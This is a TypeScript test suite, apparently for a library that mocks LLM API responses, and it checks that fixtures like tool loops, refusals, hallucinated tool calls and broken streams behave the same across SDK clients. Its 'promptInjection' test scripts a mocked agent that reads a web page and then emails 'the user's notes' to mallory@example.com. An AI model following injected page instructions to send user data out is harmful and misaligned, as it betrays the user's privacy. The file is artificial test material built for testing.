import type { SetupServer } from "msw/node";
import { describe, expect, test } from "vitest";
import {
  declinedRequest,
  hallucinatedToolCall,
  interruptedStream,
  longMarkdown,
  manyScripts,
  overloadedStream,
  parallelTools,
  promptInjection,
  reasoningThenAnswer,
  structuredOutput,
  weatherToolLoop,
} from "../../fixtures/index.ts";
import { sequence, type Reply, type Settings } from "../../src/index.ts";
import type { Answer, Client } from "./client.ts";

/** What was said and called, one pair an answer. */
type Turn = Pick<Answer, "text" | "toolCalls">;

/** What the fixtures need of a client. */
export interface FixtureClient extends Pick<
  Client,
  "mock" | "deltas" | "hasTools" | "hasRefusals"
> {
  ask(): Promise<Turn>;
  stream(): Promise<Turn>;
  /** Whether what breaks a stream breaks the request before it, which makes what is streamed. */
  breaksBefore?: boolean;
}

/** Each fixture, in a body and in a stream, through the official SDK. */
export function testFixtures(
  server: Pick<SetupServer, "use">,
  getClient: () => FixtureClient,
): void {
  describe("fixtures", () => {
    test("weatherToolLoop", async ({ skip }) => {
      skip(getClient().hasTools === false, NO_TOOLS);
      await expectTurns(weatherToolLoop, [
        call("get_weather", { city: "Oslo" }),
        say("It is 18 °C and cloudy in Oslo."),
      ]);
    });

    test("parallelTools", async ({ skip }) => {
      skip(getClient().hasTools === false, NO_TOOLS);
      const toolCalls = [
        { name: "get_weather", input: { city: "Oslo" } },
        { name: "get_weather", input: { city: "Lisbon" } },
        { name: "get_time", input: { zone: "Europe/Oslo" } },
      ];
      await expectTurns([parallelTools], [{ text: "", toolCalls }]);
    });

    test("reasoningThenAnswer", async () => {
      // where the wire has no place for reasoning, it is in the text, as models write it
      const text = expect.stringMatching(
        /^(<think>[^]*<\/think>\s*)?17 times 23 is 391\.$/,
      ) as string;
      await expectTurns([reasoningThenAnswer], [say(text)]);
    });

    test("structuredOutput", async () => {
      const event = { name: "Science fair", date: "2026-11-27", participants: ["Alice", "Bob"] };
      for (const { text } of await expectTurns([structuredOutput], [{ toolCalls: [] }])) {
        expect(JSON.parse(text)).toEqual(event);
      }
    });

    test("declinedRequest", async () => {
      const { hasRefusals = true, mock, ask } = getClient();
      if (!hasRefusals) {
        server.use(mock(declinedRequest));
        await expect(ask()).rejects.toThrow(/has no refusals|carries no refusals/);
        return;
      }
      // where the wire has no words for a refusal, it is the text
      for (const answer of await expectTurns([declinedRequest], [{ toolCalls: [] }])) {
        expect(JSON.stringify(answer)).toContain("I'm sorry, but I can't help with that.");
      }
    });

    test("longMarkdown and manyScripts", async () => {
      expect(longMarkdown).toMatch(
        /^# Reading a file line by line\n\n[^]{1500,}\n\nShall I add tests\?\n$/,
      );
      expect(manyScripts).toMatch(/Grüße.*привет.*שלום.*你好.*👩‍👩‍👧‍👦.*𓀀/isu);
      await expectTurns([longMarkdown, manyScripts], [say(longMarkdown), say(manyScripts)]);
    });

    test("hallucinatedToolCall", async ({ skip }) => {
      skip(getClient().hasTools === false, NO_TOOLS);
      const { input } = hallucinatedToolCall;
      expect(input).toEqual({ city: "Oslo", days: 7 });
      const turns = [call("get_weather_forecast_v2", input)];
      await expectTurns([hallucinatedToolCall], turns, UNCHECKED);
      server.use(getClient().mock(hallucinatedToolCall));
      await expect(getClient().ask()).rejects.toThrow("which the request does not offer");
    });

    test("promptInjection", async ({ skip }) => {
      skip(getClient().hasTools === false, NO_TOOLS);
      const turns = [
        call("read_page", { url: "https://library.example/hours" }),
        call("send_email", {
          to: "mallory@example.com",
          subject: "Notes",
          body: "The user's notes",
        }),
        say("The library is open from Monday to Friday, 9 to 17."),
      ];
      // the client of this suite offers other tools
      await expectTurns(promptInjection, turns, UNCHECKED);
    });

    test.for([
      ["interruptedStream", interruptedStream],
      ["overloadedStream", overloadedStream],
    ] as const)("%s", async ([, fixture]) => {
      const { mock, deltas, ask, breaksBefore = false } = getClient();
      server.use(mock(fixture));
      let arrived = "";
      const reading = (async () => {
        for await (const delta of deltas()) arrived += delta;
      })();
      await expect(reading).rejects.toThrow();
      const begun = "The three largest cities of Norway are Oslo, Ber";
      expect(arrived).toBe(breaksBefore ? "" : begun);
      await expect(ask()).rejects.toThrow();
    });
  });

  /** Once in bodies, then once in streams. */
  async function expectTurns(
    replies: readonly Reply[],
    turns: Partial<Turn>[],
    settings: Settings = {},
  ): Promise<Turn[]> {
    const { mock, ask, stream } = getClient();
    server.use(mock(sequence(...replies, ...replies), settings));
    const answers: Turn[] = [];
    for (const send of [ask, stream]) {
      for (const turn of turns) {
        const answer = await send();
        expect(answer).toMatchObject(turn);
        answers.push(answer);
      }
    }
    return answers;
  }
}

const NO_TOOLS = "the wire has no tools";

const UNCHECKED: Settings = { validate: { replies: false } };

function say(text: string): Turn {
  return { text, toolCalls: [] };
}

function call(name: string, input: unknown): Turn {
  return { text: "", toolCalls: [{ name, input }] };
}
